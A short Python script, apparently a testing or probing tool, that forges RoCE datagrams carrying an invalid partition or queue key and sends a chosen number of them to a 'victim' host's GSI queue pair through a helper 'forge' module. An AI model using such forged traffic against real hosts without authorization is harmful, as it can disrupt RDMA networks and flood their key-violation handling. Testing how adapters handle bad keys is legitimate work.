#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Sends datagrams with a wrong key to another host's queue pair 1 from a UDP socket. Imports
forge.py.
usage: wrong_keys.py VICTIM OWN_ADDRESS pkey|qkey COUNT"""

import struct
import sys

import forge

UD_SEND_ONLY = 0x64
GSI_QPN = 1
GSI_QKEY = 0x80010000
DEFAULT_PKEY = 0xFFFF
PORT = 50000


def main():
    victim, own, wrong, count = sys.argv[1:4] + [int(sys.argv[4])]
    pkey = 0x8001 if wrong == "pkey" else DEFAULT_PKEY
    qkey = GSI_QKEY + 1 if wrong == "qkey" else GSI_QKEY
    sender = forge.bound(own, PORT)
    for psn in range(count):
        bth = struct.pack(">BBHII", UD_SEND_ONLY, 0, pkey, GSI_QPN, psn)
        deth = struct.pack(">II", qkey, GSI_QPN)
        datagram = forge.packet(victim, own, PORT, bth + deth + bytes(256))
        sender.sendto(datagram, (victim, forge.ROCE_PORT))


if __name__ == "__main__":
    main()
